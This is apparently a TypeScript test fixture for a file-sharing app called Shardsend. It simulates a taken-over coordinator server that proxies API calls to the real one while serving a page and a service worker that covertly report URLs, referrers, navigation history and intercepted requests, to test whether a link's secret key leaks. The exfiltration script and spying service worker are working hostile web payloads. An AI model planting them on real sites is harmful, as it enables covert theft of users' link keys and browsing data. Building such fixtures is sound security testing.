/**
 * A coordinator that somebody took over. What it answers to programs is the true one's, so that transfers work; its pages
 * look for the key of a link wherever a page can, and tell. All that reaches it is kept.
 */
import { once } from 'node:events';
import { createServer, request as httpRequest, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

export class HostileCoordinator {
  /** Lines of requests, their headers and bodies, as they came. */
  readonly heard: string[] = [];
  readonly #server: Server;
  readonly #target: string;

  private constructor(target: string) {
    this.#target = target;
    this.#server = createServer((request, response) => void this.#answer(request, response));
  }

  /** @param target - origin of the true one. */
  static async start(target: string): Promise<HostileCoordinator> {
    const hostile = new HostileCoordinator(target);
    hostile.#server.listen(0);
    await once(hostile.#server, 'listening');
    return hostile;
  }

  get origin(): string {
    return `http://localhost:${(this.#server.address() as AddressInfo).port}`;
  }

  /** Requests for documents below `/d/`. */
  get pagesAsked(): string[] {
    return this.heard.filter((line) => line.startsWith('GET /d/'));
  }

  async stop(): Promise<void> {
    this.#server.close();
    this.#server.closeAllConnections();
    await once(this.#server, 'close');
  }

  async #answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const { method = '', url = '', rawHeaders } = request;
    const body: Buffer[] = [];
    for await (const chunk of request) body.push(chunk as Buffer);
    this.heard.push(`${method} ${url} ${rawHeaders.join(' ')} ${Buffer.concat(body).toString()}`);
    const show = (type: string, text: string): void =>
      void response
        .writeHead(200, { 'Content-Type': type, 'Service-Worker-Allowed': '/', 'Supports-Loading-Mode': 'credentialed-prerender', 'Cache-Control': 'no-store' })
        .end(text);
    if (url.startsWith('/api/')) return this.#pass(request, Buffer.concat(body), response);
    if (url === '/seen') return void response.writeHead(204).end();
    if (url.endsWith('.js')) return show('text/javascript', SPY);
    // The part behind the # follows a redirect to wherever it leads.
    if (url.startsWith('/d/away')) return void response.writeHead(302, { Location: `${this.origin.replace('localhost', '127.0.0.1')}/looks` }).end();
    show('text/html', PAGE);
  }

  #pass({ method, url, rawHeaders }: IncomingMessage, body: Buffer, response: ServerResponse): void {
    const upstream = httpRequest(`${this.#target}${url}`, { method, headers: rawHeaders, agent: false }, (answer) => {
      response.writeHead(answer.statusCode!, answer.rawHeaders);
      answer.pipe(response);
    });
    upstream.on('error', () => response.destroy());
    upstream.end(body);
  }
}

/** The script is the first thing in the document. `plant()` tries to register the service worker wherever it might reach links. */
const PAGE = `<script>
const tell = (what) => fetch('/seen', { method: 'POST', body: JSON.stringify(what), keepalive: true });
const look = (when) => tell({
  when,
  href: location.href,
  referrer: document.referrer,
  opened: opener === null ? null : typeof opener,
  prerendering: document.prerendering,
  timing: performance.getEntries().map(({ name }) => name),
  entries: globalThis.navigation?.entries().map(({ url }) => url),
  state: history.state,
});
look('first');
for (const type of ['hashchange', 'popstate', 'pageshow', 'load', 'prerenderingchange']) addEventListener(type, (event) => tell({ type, to: event.newURL }).then(() => look(type)));
globalThis.navigation?.addEventListener('navigate', ({ destination }) => tell({ type: 'navigate', to: destination.url }));
try { new PerformanceObserver((list) => tell(list.getEntries().map(({ name }) => name))).observe({ type: 'navigation', buffered: true }); } catch {}
async function plant() {
  const scopes = [['/spy.js', '/'], ['/d/spy.js', '/d/'], ['/assets/spy.js', '/'], ['/assets/spy.js', '/d/']];
  const planted = [];
  for (const [script, scope] of scopes) await navigator.serviceWorker.register(script, { scope }).then(() => planted.push(script + ' at ' + scope), () => undefined);
  return planted;
}
</script><!doctype html><title>Shardsend</title><p>Open it here</p>`;

/** Lets every request go its way, so that whoever opens a link notices nothing. */
const SPY = `
const tell = (what) => fetch('/seen', { method: 'POST', body: JSON.stringify(what) });
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  const { url, referrer, mode } = event.request;
  if (new URL(url).pathname === '/seen') return;
  event.waitUntil((async () => {
    await tell({ fetched: url, referrer, mode });
    await tell({ clients: (await clients.matchAll({ includeUncontrolled: true })).map((client) => client.url) });
    await tell({ resulting: (await clients.get(event.resultingClientId))?.url });
  })());
});
`;
